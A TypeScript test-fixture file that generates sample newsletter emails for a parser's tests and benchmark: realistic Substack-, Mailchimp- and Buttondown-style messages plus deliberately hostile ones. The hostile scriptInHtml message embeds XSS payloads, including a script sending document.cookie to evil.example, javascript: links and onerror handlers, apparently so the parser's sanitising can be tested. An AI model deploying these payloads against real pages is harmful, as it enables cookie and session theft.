/**
 * Messages for the newsletters' tests and bench (written here, not captured): three newsletters shaped as
 * Substack, Mailchimp and Buttondown send theirs — "View in browser" boilerplate, hidden preheaders,
 * tracking pixels, tracked links, List-Unsubscribe headers — and hostile ones (deep MIME nesting, a huge
 * header, broken charsets, a large base64 attachment, script and `javascript:` links).
 */

export interface MessageOptions {
  to?: string;
  cc?: string;
  from?: string;
  subject?: string;
  messageId?: string | null;
  date?: string;
  extraHeaders?: string[];
}

const CRLF = '\r\n';

function headers(
  o: MessageOptions,
  defaults: Required<Omit<MessageOptions, 'cc' | 'extraHeaders'>>,
): string[] {
  const messageId = o.messageId === undefined ? defaults.messageId : o.messageId;
  return [
    `From: ${o.from ?? defaults.from}`,
    `To: ${o.to ?? defaults.to}`,
    ...(o.cc === undefined ? [] : [`Cc: ${o.cc}`]),
    `Subject: ${o.subject ?? defaults.subject}`,
    `Date: ${o.date ?? defaults.date}`,
    ...(messageId === null ? [] : [`Message-ID: <${messageId}>`]),
    'MIME-Version: 1.0',
    ...(o.extraHeaders ?? []),
  ];
}

/** A multipart/alternative message of a text and an HTML part, as one Buffer. */
export function alternative(
  o: MessageOptions,
  d: Parameters<typeof headers>[1],
  text: string,
  html: string,
): Buffer {
  const boundary = 'b1_tidings_test';
  const lines = [
    ...headers(o, d),
    `Content-Type: multipart/alternative; boundary="${boundary}"`,
    '',
    `--${boundary}`,
    'Content-Type: text/plain; charset=utf-8',
    'Content-Transfer-Encoding: 8bit',
    '',
    text,
    `--${boundary}`,
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: 8bit',
    '',
    html,
    `--${boundary}--`,
    '',
  ];
  return Buffer.from(lines.join(CRLF), 'utf8');
}

/** A Substack-like post: a hidden preheader, "View in browser", an open pixel, redirect links with utm_. */
export function substackLike(o: MessageOptions = {}): Buffer {
  const d = {
    from: '"The Slow Letter" <slowletter@substack.com>',
    to: 'reader@inbound.example',
    subject: 'Why the river moved: a field report',
    messageId: 'post-123.slowletter@substack.com',
    date: 'Tue, 03 Nov 2026 07:15:00 +0000',
  };
  const html = `<!DOCTYPE html><html><head><style>.x{color:red}</style></head><body>
<div style="display:none;max-height:0;overflow:hidden;mso-hide:all">Preheader: a secret teaser nobody sees</div>
<table><tr><td><a href="https://slowletter.substack.com/p/why-the-river-moved?utm_source=substack&amp;utm_medium=email">View this post on the web at slowletter.substack.com</a></td></tr></table>
<h1>Why the river moved</h1>
<p>By Ada Field</p>
<p>The river at Halden shifted forty metres east over a single winter, and nobody in the valley noticed until the ferry could no longer land. This is the story of how a slow thing became sudden.</p>
<p>Surveyors came in March with drones and old maps. What they found was a channel carved by ice, and <a href="https://slowletter.substack.com/redirect/abc?j=eyJ1Ijo&amp;utm_campaign=post&amp;r=2x">a report from 1911</a> that predicted it.</p>
<img src="https://substack-post-media.s3.amazonaws.com/public/images/river.jpg" width="600" height="400" alt="The river bend">
<p><a href="javascript:alert(1)">Click me</a> and <a href="https://slowletter.substack.com/subscribe?utm_source=email&amp;fbclid=XYZ">subscribe</a>.</p>
<script>document.write('tracking')</script>
<p style="color:#999">You're on the free list for The Slow Letter. <a href="https://slowletter.substack.com/action/disable_email?token=abc">Unsubscribe</a></p>
<img src="https://eotrx.substackcdn.com/open?token=abcdef&amp;utm_source=x" width="1" height="1" alt="">
</body></html>`;
  const text =
    'View this post on the web at https://slowletter.substack.com/p/why-the-river-moved\n\nThe river at Halden shifted forty metres east.';
  return alternative(
    {
      ...o,
      extraHeaders: [
        'List-Unsubscribe: <https://slowletter.substack.com/action/disable_email?token=abc>, <mailto:unsubscribe@substack.com?subject=x>',
        'List-Unsubscribe-Post: List-Unsubscribe=One-Click',
        ...(o.extraHeaders ?? []),
      ],
    },
    d,
    text,
    html,
  );
}

/** A Mailchimp-like campaign: a "View this email in your browser" table row, a list-manage pixel, mc_ links. */
export function mailchimpLike(o: MessageOptions = {}): Buffer {
  const d = {
    from: 'Harbour Books <news@harbourbooks.example>',
    to: 'reader@inbound.example',
    subject: 'New in November: five books for long evenings',
    messageId: 'mc.12345.abc@mail123.mcsv.net',
    date: 'Wed, 04 Nov 2026 16:00:00 +0100',
  };
  const html = `<html><body><table width="100%"><tr><td align="center">
<span style="color:#fff;display:none!important">Five books, one warm shop</span>
<a href="https://us1.campaign-archive.com/?u=abc&amp;id=def&amp;e=123">View this email in your browser</a></td></tr>
<tr><td><img src="https://mcusercontent.com/abc/images/banner.png" width="560" alt="Harbour Books"></td></tr>
<tr><td><h2>Five books for long evenings</h2>
<p>November is when the shop smells of paper and wet coats, and we read more than in any other month of the year. Here are the five we keep pressing into people's hands.</p>
<p><a href="https://harbourbooks.example/books/the-tide?utm_source=Harbour+Books&amp;utm_campaign=nov&amp;mc_cid=abc&amp;mc_eid=def">The Tide, by M. Oyelaran</a>: a novel about a lighthouse keeper's daughter.</p>
</td></tr>
<tr><td><p>Copyright © 2026 Harbour Books, All rights reserved.</p>
<p><a href="https://harbourbooks.us1.list-manage.com/unsubscribe?u=abc&amp;id=def">unsubscribe from this list</a> · <a href="https://harbourbooks.us1.list-manage.com/profile?u=abc">update subscription preferences</a></p></td></tr></table>
<img src="https://harbourbooks.us1.list-manage.com/track/open.php?u=abc&amp;id=def&amp;e=123" height="1" width="1" alt="" style="display:block">
</body></html>`;
  return alternative(
    {
      ...o,
      extraHeaders: [
        'List-Unsubscribe: <https://harbourbooks.us1.list-manage.com/unsubscribe?u=abc&id=def&e=123>, <mailto:unsubscribe-mc.us1_abc@unsubscribe.mailchimpapp.net?subject=unsubscribe>',
        'List-Unsubscribe-Post: List-Unsubscribe=One-Click',
        ...(o.extraHeaders ?? []),
      ],
    },
    d,
    'View this email in your browser\n\nFive books for long evenings.',
    html,
  );
}

/** A Buttondown-like plain newsletter: text/plain only, a mailto List-Unsubscribe. */
export function buttondownLike(o: MessageOptions = {}): Buffer {
  const d = {
    from: 'Weekly Notes <notes@buttondown.example>',
    to: 'reader@inbound.example',
    subject: 'Weekly Notes #42: on gardens',
    messageId: 'weekly-notes-42@buttondown.example',
    date: 'Thu, 05 Nov 2026 09:00:00 -0500',
  };
  const lines = [
    ...headers(
      {
        ...o,
        extraHeaders: [
          'List-Unsubscribe: <mailto:unsubscribe@buttondown.example>',
          ...(o.extraHeaders ?? []),
        ],
      },
      d,
    ),
    'Content-Type: text/plain; charset=utf-8',
    'Content-Transfer-Encoding: quoted-printable',
    '',
    'Hello friends,',
    '',
    'This week I planted garlic in the cold ground and thought about patience, which is what a =',
    'garden mostly teaches. The cloves will sit under the frost until March.',
    '',
    'Read more at https://notes.example/42?utm_source=buttondown',
    '',
    '-- ',
    'Unsubscribe: https://buttondown.example/unsubscribe/abc',
    '',
  ];
  return Buffer.from(lines.join(CRLF), 'utf8');
}

// ---- Hostile messages ----

const hostileHead = (subject: string, extra: string[] = []): string[] => [
  'From: Hostile <hostile@evil.example>',
  'To: reader@inbound.example',
  `Subject: ${subject}`,
  'Date: Fri, 06 Nov 2026 10:00:00 +0000',
  `Message-ID: <${subject.replace(/\W+/g, '-')}@evil.example>`,
  'MIME-Version: 1.0',
  ...extra,
];

/** Multiparts nested `depth` deep, a text part at the bottom. */
export function deepNesting(depth: number): Buffer {
  const open: string[] = [];
  const close: string[] = [];
  for (let i = 0; i < depth; i++) {
    open.push(`Content-Type: multipart/mixed; boundary="n${i}"`, '', `--n${i}`);
    close.unshift(`--n${i}--`);
  }
  const lines = [
    ...hostileHead('deep nesting'),
    ...open,
    'Content-Type: text/plain',
    '',
    'bottom',
    ...close,
    '',
  ];
  return Buffer.from(lines.join(CRLF));
}

/** A header of `bytes` bytes (one folded header). */
export function hugeHeader(bytes: number): Buffer {
  const chunk = 'x'.repeat(76);
  const folded: string[] = [];
  for (let n = 0; n < bytes; n += 78) folded.push(` ${chunk}`);
  const lines = [
    ...hostileHead('huge header', [`X-Junk:${folded.join(CRLF)}`]),
    'Content-Type: text/plain',
    '',
    'body',
    '',
  ];
  return Buffer.from(lines.join(CRLF));
}

/** Broken charsets: an unknown one declared, invalid UTF-8 bytes, an encoded word in a charset nobody has. */
export function brokenCharsets(): Buffer {
  const head = [
    'From: =?x-unknown-charset?B?SGVsbG8=?= <broken@evil.example>',
    'To: reader@inbound.example',
    'Subject: =?utf-8?B?/w==?= broken =?klingon?Q?tlhIngan?=',
    'Date: not a date at all',
    'Message-ID: <broken-charsets@evil.example>',
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset="x-does-not-exist"',
    '',
  ].join(CRLF);
  const body = Buffer.concat([
    Buffer.from('<p>Valid start of a paragraph that is long enough to be a summary line. '),
    Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0xe2, 0x82]),
    Buffer.from(' and the end.</p>\r\n'),
  ]);
  return Buffer.concat([Buffer.from(`${head}${CRLF}`), body]);
}

/** A newsletter with a base64 attachment of `bytes` random-looking bytes. */
export function bigAttachment(bytes: number, name = 'annual-report.pdf'): Buffer {
  const data = Buffer.alloc(bytes);
  for (let i = 0; i < bytes; i++) data[i] = (i * 2654435761) >>> 24;
  const b64 = data.toString('base64').replace(/.{76}/g, `$&${CRLF}`);
  const lines = [
    ...hostileHead('big attachment', ['Content-Type: multipart/mixed; boundary="att"']),
    '',
    '--att',
    'Content-Type: text/html; charset=utf-8',
    '',
    '<p>Please find our annual report attached; it explains what we did this year and why.</p>',
    '--att',
    `Content-Type: application/pdf; name="${name}"`,
    `Content-Disposition: attachment; filename="${name}"`,
    'Content-Transfer-Encoding: base64',
    '',
    b64,
    '--att--',
    '',
  ];
  return Buffer.from(lines.join(CRLF));
}

/** Many sibling parts. */
export function manyParts(count: number): Buffer {
  const parts: string[] = [];
  for (let i = 0; i < count; i++) parts.push('--p', 'Content-Type: text/plain', '', `part ${i}`);
  const lines = [
    ...hostileHead('many parts', ['Content-Type: multipart/mixed; boundary="p"']),
    '',
    ...parts,
    '--p--',
    '',
  ];
  return Buffer.from(lines.join(CRLF));
}

/** Script, event handlers, javascript: links, an iframe and a form in the HTML. */
export function scriptInHtml(): Buffer {
  const lines = [
    ...hostileHead('script in html', ['Content-Type: text/html; charset=utf-8']),
    '',
    '<p onclick="steal()">A paragraph long enough to stand as the summary of this message, really.</p>',
    '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
    '<a href="javascript:alert(document.domain)">a javascript link</a>',
    '<a href="JaVaScRiPt:alert(1)">another</a>',
    '<iframe src="https://evil.example/frame"></iframe><form action="https://evil.example"><input name=x></form>',
    '<img src="x" onerror="alert(1)"><svg><script>alert(2)</script></svg>',
    '',
  ];
  return Buffer.from(lines.join(CRLF));
}
